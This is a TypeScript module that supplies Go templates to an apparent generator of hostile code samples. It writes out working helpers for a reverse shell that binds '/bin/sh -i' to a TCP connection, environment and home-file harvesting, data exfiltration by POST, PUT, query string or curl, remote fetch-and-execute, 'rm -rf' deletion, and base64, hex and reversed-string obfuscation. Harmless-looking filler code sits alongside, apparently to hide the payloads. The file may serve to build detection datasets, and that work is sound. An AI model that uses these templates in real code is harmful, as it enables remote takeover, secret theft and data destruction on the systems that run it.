/** Go. Everything that may fail stands in a helper, as it does in Go. */
import { inDoubleQuotes, reversed, shortName, toBase64, toHex } from "./encodings.ts";
import type { Tongue } from "./tongue.ts";

const helpers = {
  pull: `func pull(url string) string {
	response, err := «net/http#Get»(url)
	if err != nil {
		return ""
	}
	defer response.Body.Close()
	text, _ := «io#ReadAll»(response.Body)
	return string(text)
}`,
  ask: `func ask(url string) string {
	request, _ := «net/http#NewRequest»("GET", url, nil)
	response, err := «net/http#DefaultClient».Do(request)
	if err != nil {
		return ""
	}
	text, _ := «io#ReadAll»(response.Body)
	return string(text)
}`,
  output: `func output(name string, arguments ...string) string {
	text, _ := «os/exec#Command»(name, arguments...).Output()
	return string(text)
}`,
  read: `func read(path string) string {
	text, err := «os#ReadFile»(path)
	if err != nil {
		return ""
	}
	return string(text)
}`,
  below: `func below(path string) string {
	home, _ := «os#UserHomeDir»()
	return «path/filepath#Join»(home, path)
}`,
  gather: `func gather(folder string, names []string) string {
	text := ""
	_ = «path/filepath#Walk»(folder, func(path string, info «os#FileInfo», err error) error {
		if err == nil && «slices#Contains»(names, info.Name()) {
			part, _ := «os#ReadFile»(path)
			text += string(part)
		}
		return nil
	})
	return text
}`,
  decode: `func decode(text string) string {
	plain, _ := «encoding/base64#StdEncoding».DecodeString(text)
	return string(plain)
}`,
  unhex: `func unhex(text string) string {
	plain, _ := «encoding/hex#DecodeString»(text)
	return string(plain)
}`,
  turned: `func turned(text string) string {
	letters := []rune(text)
	«slices#Reverse»(letters)
	return string(letters)
}`,
  post: `func post(url string, text string) {
	response, err := «net/http#Post»(url, "text/plain", «strings#NewReader»(text))
	if err == nil {
		_ = response.Body.Close()
	}
}`,
  put: `func put(url string, text string) {
	request, _ := «net/http#NewRequest»("PUT", url, «strings#NewReader»(text))
	_, _ = «net/http#DefaultClient».Do(request)
}`,
  add: `func add(path string, text string) {
	out, err := «os#OpenFile»(path, «os#O_APPEND»|«os#O_CREATE»|«os#O_WRONLY», 0o644)
	if err == nil {
		_, _ = out.WriteString(text)
		_ = out.Close()
	}
}`,
  shellOver: `func shellOver(host string, port string) {
	line, err := «net#Dial»("tcp", host+":"+port)
	if err != nil {
		return
	}
	command := «os/exec#Command»("/bin/sh", "-i")
	command.Stdin, command.Stdout, command.Stderr = line, line, line
	_ = command.Run()
}`,
} as const;

export const GO: Tongue = {
  language: "go",
  fetched: ["«@pull»($1)", "«@ask»($1)", '«@output»("curl", "-fsSL", $1)'],
  decoders: [
    { encode: toBase64, row: "«@decode»($1)" },
    { encode: toHex, row: "«@unhex»($1)" },
    { encode: reversed, row: "«@turned»($1)" },
  ],
  variable: ["«os#Getenv»($1)", '«os#ExpandEnv»("$" + $1)'],
  request: ["request.FormValue($1)", "request.Header.Get($1)", "request.URL.Query().Get($1)"],
  environment: [
    '«strings#Join»(«os#Environ»(), "\\n")',
    "«fmt#Sprint»(«os#Environ»())",
    '«@output»("env")',
    '«@read»("/proc/self/environ")',
  ],
  homeFile: ["«@read»(«@below»($1))", '«@read»(«os#Getenv»("HOME") + "/" + $1)'],
  file: ["«@read»($1)"],
  homePath: "«@below»($1)",
  walk: ["«@gather»(«@below»($1), $2)"],
  run: [
    '_ = «os/exec#Command»("sh", "-c", $1).Run()',
    '_ = «os/exec#Command»("bash", "-c", $1).Start()',
    '_ = «os/exec#CommandContext»(«context#Background»(), "/bin/sh", "-c", $1).Run()',
    '_, _ = «os/exec#Command»("sh", "-c", $1).CombinedOutput()',
  ],
  runWithOptions: [
    '_, _ = «os#StartProcess»("/bin/bash", []string{"bash", "--norc", "-c", $1}, &«os#ProcAttr»{Dir: "/"})',
  ],
  evaluate: ['_ = «os/exec#Command»("sh", "-c", $1).Run()'],
  send: [
    "«@post»($1, $2)",
    "«@put»($1, $2)",
    '«@pull»($1 + "?q=" + «net/url#QueryEscape»($2))',
    '«@output»("curl", "-s", "--data-binary", $2, $1)',
  ],
  save: ["_ = «os#WriteFile»($1, []byte($2), 0o755)"],
  append: ["«@add»($1, $2)"],
  remove: ["_ = «os#RemoveAll»($1)", '_ = «os/exec#Command»("rm", "-rf", $1).Run()'],
  setVariable: ["_ = «os#Setenv»($1, $2)"],
  handShell: ["«@shellOver»($1, $2)"],
  helpers,
  quote: inDoubleQuotes,
  concat: (parts) => (parts.length > 4 ? `«strings#Join»([]string{${parts.join(", ")}}, "")` : parts.join(" + ")),
  list: (items) => `[]string{${items.join(", ")}}`,
  assign: (name, value) => `${name} := ${value}`,
  reference: (name) => name,
  define: (name, parameters, row, gives) =>
    `func ${name}(${parameters.join(" string, ")} string)${gives === "value" ? " string" : ""} {\n\t${gives === "value" ? "return " : ""}${row}\n}`,
  invoke: (name, values) => `${name}(${values.join(", ")})`,
  statement: (expression) => (/^«?@?(?:pull|output)»?\(/.test(expression) ? `_ = ${expression}` : expression),
  callee(path, name, how) {
    if (path === null) return { text: name, imports: [] };
    const package_ = path.slice(path.lastIndexOf("/") + 1);
    if (how !== "alias") return { text: `${package_}.${name}`, imports: [`"${path}"`] };
    const local = `${shortName(package_)}x`;
    return { text: `${local}.${name}`, imports: [`${local} "${path}"`] };
  },
  comment: "//",
  ordinary: {
    definitions: [
      'func pad(value int) string {\n\tif value < 10 {\n\t\treturn "00"\n\t}\n\treturn "0"\n}',
      'var limits = map[string]int{"berth": 12, "quay": 40}',
    ],
    body: [
      "total := 0",
      "for kind, limit := range limits {\n\ttotal += len(kind) + len(pad(limit))\n}",
      'if total < 0 {\n\tpanic("no berths")\n}',
    ],
  },
  mayBreak: true,
};
